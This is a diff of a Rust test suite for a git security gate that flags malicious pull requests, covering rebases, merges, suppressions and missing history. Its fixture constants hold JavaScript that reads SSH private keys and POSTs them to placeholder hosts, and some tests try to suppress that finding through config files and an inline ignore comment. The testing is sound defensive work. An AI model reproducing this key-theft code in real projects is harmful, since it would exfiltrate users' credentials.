@@ -1,4 +1,4 @@
-//! Tests of `gate` on pull requests: clean, malicious, rebased, suppressed, and one that tries to suppress itself.
+//! Tests of `gate` on pull requests, some of which are malicious, rebased, suppressed, or suppress their findings.
 
 #![allow(clippy::unwrap_used)] // helpers of tests are not marked as tests
 
@@ -10,14 +10,14 @@ use std::path::Path;
 use std::process::Output;
 use tempfile::TempDir;
 
-/// Code that sends a private key to a server; must be blocked.
+/// Code that sends a private key to a server, which the gate must block.
 const THEFT: &str = "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\\nconst req = https.request({ host: 'collect.example.org', method: 'POST' });\\nreq.end(key);\\n";
 
-/// Similar code that has been in the repository from the start.
+/// Similar code, which is in the first commit of the repository.
 const OLD: &str = "const old = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519');\\nhttps.request({ host: 'old.example.org', method: 'POST' }).end(old);\\n";
 
-/// A project that Ana has maintained for two years, with an old theft that went unnoticed. `steps` are Ben's commits on
-/// the branch `proposal`; `main` are further commits by Ana on `main` before these.
+/// Builds a project of Ana's, whose first commit contains [`OLD`]. `main` are later commits by Ana on the branch
+/// `main`; `steps` are the commits after them, by Ben on the branch `proposal`.
 fn project(main: &str, steps: &str) -> TempDir {
     let output = format!(
         "title = 't'\nstory = 's'\nhead = ''\n\
@@ -32,7 +32,7 @@ fn project(main: &str, steps: &str) -> TempDir {
     folder
 }
 
-/// A commit by a person on a branch.
+/// Returns the TOML of a commit by a person on a branch.
 fn step(by: &str, branch: &str, day: &str, files: &str) -> String {
     format!(
         "[[step]]\nby = '{by}'\nat = '2024-{day} 10:00'\nbranch = '{branch}'\nmessage = 'Change'\nwrite = {{ {files} }}\n"
@@ -52,14 +52,14 @@ fn report(folder: &Path) -> serde_json::Value {
     serde_json::from_slice(&gate(folder, &["--format", "json"]).stdout).unwrap()
 }
 
-/// The ids of the findings that count.
+/// Returns the ids of the findings that count.
 fn ids(folder: &Path) -> Vec<String> {
     let report = report(folder);
     let findings = report["findings"].as_array().unwrap().iter();
     findings.filter(|f| f["counted_db"].as_f64() > Some(0.0)).map(|f| f["id"].as_str().unwrap().to_owned()).collect()
 }
 
-/// The suppression of a finding, as a file's text within TOML.
+/// Returns an `alibi.toml` that suppresses a finding, escaped for a TOML string.
 fn suppression(id: &str, more: &str) -> String {
     format!("[[suppress]]\\nfinding = '{id}'\\nreason = 'Ana asked Ben, and it is a fixture'\\n{more}")
 }
@@ -71,13 +71,13 @@ fn a_clean_pull_request_passes_despite_old_findings() {
     assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
     assert_eq!(text(&out.stdout), "git-alibi main..proposal: 1 commit checked, nothing to review\n");
     let scan = alibi(&["scan", clean.path().to_str().unwrap(), "--fail-on", "block"]);
-    assert_eq!(scan.status.code(), Some(1), "the old theft is there to be found, and is not this proposal's");
+    assert_eq!(scan.status.code(), Some(1), "a scan finds the old theft, which the pull request does not add");
     let empty = alibi(&["gate", "main..main", clean.path().to_str().unwrap()]);
     assert_eq!((empty.status.code(), text(&empty.stdout).contains("no commits to check")), (Some(0), true));
 }
 
 #[test]
-fn a_malicious_pull_request_fails_with_line_reason_and_fix() {
+fn a_malicious_pull_request_fails_and_the_report_has_line_reason_and_fix() {
     let bad = project("", &theft("01-08"));
     let out = gate(bad.path(), &[]);
     let output = text(&out.stdout);
@@ -86,7 +86,7 @@ fn a_malicious_pull_request_fails_with_line_reason_and_fix() {
     {
         assert!(output.contains(part), "{part} is missing: {output}");
     }
-    assert!(!output.contains("old.js"), "what is old is not told: {output}");
+    assert!(!output.contains("old.js"), "the old finding is reported: {output}");
     assert_eq!(gate(bad.path(), &["--fail-on", "never"]).status.code(), Some(0));
     let review = gate(bad.path(), &["--fail-on", "review", "--skip", "content"]);
     assert_eq!(review.status.code(), Some(0), "{}", text(&review.stdout));
@@ -152,17 +152,17 @@ fn a_pull_request_cannot_suppress_its_own_findings() {
         ("CODEOWNERS", format!("'CODEOWNERS' = \"nothing @ben\\n\", {file}")),
         ("report.js", format!("'report.js' = \"// git-alibi: ignore[credential-read-egress] it is fine\\n{THEFT}\"")),
     ];
-    for (what, files) in &ways {
+    for (file, files) in &ways {
         let folder = project("", &step("ben", "proposal", "01-08", files));
         let out = gate(folder.path(), &[]);
         let output = text(&out.stdout);
-        assert_eq!(out.status.code(), Some(1), "{what}: {output}");
-        assert!(output.contains("by Ben Example"), "{what} makes it nobody else's: {output}");
+        assert_eq!(out.status.code(), Some(1), "{file}: {output}");
+        assert!(output.contains("by Ben Example"), "{file}: the finding is not attributed to Ben Example: {output}");
         let message =
-            if *what == "report.js" { "cannot suppress its own findings" } else { "version before the range" };
-        assert!(output.contains(message) && output.contains(what), "{what} is told of: {output}");
+            if *file == "report.js" { "cannot suppress its own findings" } else { "version before the range" };
+        assert!(output.contains(message) && output.contains(file), "{file} is not mentioned: {output}");
     }
-    // The same with two commits in one proposal.
+    // The suppression and the theft are in separate commits of the pull request.
     let first = step("ben", "proposal", "01-08", &format!("'alibi.toml' = \"{}\"", suppression(&id, "")));
     let out = gate(project("", &format!("{first}{}", theft("01-09"))).path(), &[]);
     assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
@@ -193,12 +193,12 @@ fn copied_code_is_reported_but_moved_code_is_not() {
     let out = gate(bad.path(), &[]);
     assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
     assert!(text(&out.stdout).contains("new.js:1"), "{}", text(&out.stdout));
-    // A decision about the old finding does not cover the copy.
+    // The copy has a different id, so that a suppression of the old finding does not cover it.
     let scan = alibi(&["scan", bad.path().to_str().unwrap(), "--refs", "heads/main", "--format", "json"]);
     let scan: serde_json::Value = serde_json::from_slice(&scan.stdout).unwrap();
     let old = scan["findings"][0]["id"].as_str().unwrap().to_owned();
     assert!(!ids(bad.path()).contains(&old), "{old}");
-    // Moving the file is not copying it.
+    // A moved file is not a copy.
     let moved = format!(
         "[[step]]\nby = 'ben'\nat = '2024-01-08 10:00'\nbranch = 'proposal'\nmessage = 'Move'\nremove = ['old.js']\nwrite = {{ 'lib/old.js' = \"{OLD}\" }}\n"
     );
@@ -206,7 +206,7 @@ fn copied_code_is_reported_but_moved_code_is_not() {
     assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
 }
 
-/// A commit on the branch `proposal`, with these parents and the tree of a revision.
+/// Creates a merge commit on the branch `proposal`, with these parents and the tree of a revision.
 fn merge_of(folder: &Path, parents: &[&str], tree_of: &str) {
     let repository = git2::Repository::open_bare(folder).unwrap();
     let commit = |name: &str| repository.revparse_single(name).unwrap().peel_to_commit().unwrap();
@@ -225,13 +225,13 @@ fn a_merge_that_restores_removed_code_is_reported() {
     let out = gate(folder.path(), &[]);
     assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
     assert!(text(&out.stdout).contains("old.js"), "{}", text(&out.stdout));
-    // The same through a branch that was created before the file was removed.
+    // The merge takes the file from a branch that was created before its removal.
     let folder = project(gone, "");
     merge_of(folder.path(), &["main~1"], "main~1");
     merge_of(folder.path(), &["main", "proposal"], "proposal");
     let out = gate(folder.path(), &[]);
     assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
-    // Merging main into a clean proposal adds nothing.
+    // A merge of main into a clean branch is not reported.
     let folder = project("", &step("ben", "proposal", "01-08", "'b.js' = \"let b;\\n\""));
     merge_of(folder.path(), &["proposal", "main"], "proposal");
     assert_eq!(gate(folder.path(), &[]).status.code(), Some(0));
@@ -247,7 +247,7 @@ fn ambiguous_and_empty_range_names_are_rejected() {
         let out = alibi(&["gate", range, path]);
         (out.status.code(), text(&out.stderr))
     };
-    // An empty variable in a pipeline.
+    // An unset variable in a pipeline produces such ranges.
     for range in ["..proposal", "...proposal"] {
         let (code, message) = refused(range);
         assert!(code == Some(2) && message.contains("no start"), "{range}: {code:?} {message}");
@@ -255,7 +255,7 @@ fn ambiguous_and_empty_range_names_are_rejected() {
     repository.reference("refs/tags/main", tip, true, "").unwrap();
     let (code, message) = refused("main..proposal");
     assert!(code == Some(2) && message.contains("refs/tags/main or refs/heads/main"), "{code:?} {message}");
-    assert_eq!(refused("refs/heads/main..proposal").0, Some(1), "in full it is clear");
+    assert_eq!(refused("refs/heads/main..proposal").0, Some(1), "a full name is not ambiguous");
 }
 
 #[test]
@@ -270,21 +270,21 @@ fn the_gate_refuses_a_repository_nested_in_another() {
 }
 
 #[test]
-fn team_files_can_be_read_from_a_trusted_branch() {
+fn believe_reads_suppressions_from_the_given_revision() {
     let id = ids(project("", &theft("01-08")).path())[0].clone();
     // Two pushes to one branch: the first adds a suppression for the finding in the second.
     let excuse = step("ben", "proposal", "01-06", &format!("'alibi.toml' = \"{}\"", suppression(&id, "")));
     let folder = project("", &format!("{excuse}{}", theft("01-08")));
     let path = folder.path().to_str().unwrap();
     let second = |more: &[&str]| alibi(&[&["gate", "proposal~1..proposal", path], more].concat()).status.code();
-    assert_eq!(second(&[]), Some(0), "its own past is believed");
-    assert_eq!(second(&["--believe", "main"]), Some(1), "what was reviewed is");
+    assert_eq!(second(&[]), Some(0), "by default, the configuration of the base is used");
+    assert_eq!(second(&["--believe", "main"]), Some(1), "--believe uses the configuration of main");
     assert_eq!(second(&["--believe", "nowhere"]), Some(3));
 }
 
 #[test]
 fn criss_cross_merges_are_checked_for_new_content_only() {
-    // Main and the proposal have merged each other: they have two merge bases.
+    // Main and the proposal have merged each other, so that they have two merge bases.
     let folder = project("", &step("ben", "proposal", "01-08", "'b.js' = \"let b;\\n\""));
     let repository = git2::Repository::open_bare(folder.path()).unwrap();
     let (main, side) = ("refs/heads/main", "refs/heads/proposal");
@@ -299,7 +299,7 @@ fn criss_cross_merges_are_checked_for_new_content_only() {
 }
 
 #[test]
-fn missing_history_fails_closed_with_a_fetch_command() {
+fn missing_history_fails_the_gate_with_a_fetch_command() {
     let bad = project("", &theft("01-08"));
     let path = bad.path().to_str().unwrap();
     let refused = |range: &str, more: &[&str]| {
@@ -320,7 +320,10 @@ fn missing_history_fails_closed_with_a_fetch_command() {
     let (code, _, output) = refused("proposal..0000000000000000000000000000000000000000", &[]);
     assert!(code == 0 && output.contains("nothing to check"), "a deleted branch: {output}");
     let (code, _, output) = refused("4b825dc642cb6eb9a060e54bf8d69288fbee4904..main", &[]);
-    assert!(code == 1 && output.contains("old.js"), "from the empty tree on, every commit is checked: {output}");
+    assert!(
+        code == 1 && output.contains("old.js"),
+        "a range from the empty tree does not check every commit: {output}"
+    );
     assert_eq!(refused("proposal", &[]).0, 2);
     assert_eq!(refused("main..proposal", &["--time-limit", "0"]).0, 2);
     // A shallow clone, which lacks earlier history.
@@ -341,7 +344,7 @@ fn missing_history_fails_closed_with_a_fetch_command() {
 }
 
 #[test]
-fn only_unreadable_files_in_the_range_fail_closed() {
+fn unreadable_files_fail_the_gate_only_if_the_range_changes_them() {
     let object_of = |folder: &TempDir, rev: &str| {
         let repo = git2::Repository::open_bare(folder.path()).unwrap();
         let id = repo.revparse_single(rev).unwrap().id().to_string();
@@ -359,7 +362,7 @@ fn only_unreadable_files_in_the_range_fail_closed() {
     std::fs::remove_file(object_of(&old, "main:old.js")).unwrap();
     let out = gate(old.path(), &[]);
     assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
-    // A partial clone normally lacks old files, but must not lack new ones.
+    // In a partial clone, old files may be missing, but new files may not.
     for (folder, code) in [(&old, 0), (&lost, 3)] {
         std::fs::create_dir_all(folder.path().join("objects/pack")).unwrap();
         std::fs::write(folder.path().join("objects/pack/pack-0.promisor"), "").unwrap();
@@ -371,7 +374,7 @@ fn only_unreadable_files_in_the_range_fail_closed() {
 
 #[test]
 fn a_force_push_is_checked_for_new_content_only() {
-    // The branch was rewritten: only the new commits are checked, not those that the push drops.
+    // The branch was rewritten: only the new commits are checked, not the commits that the push removes.
     let folder = project("", &format!("{}{}", theft("01-08"), step("ben", "again", "01-09", "'b.js' = \"let b;\\n\"")));
     let path = folder.path().to_str().unwrap();
     let clean = alibi(&["gate", "proposal..again", path]);
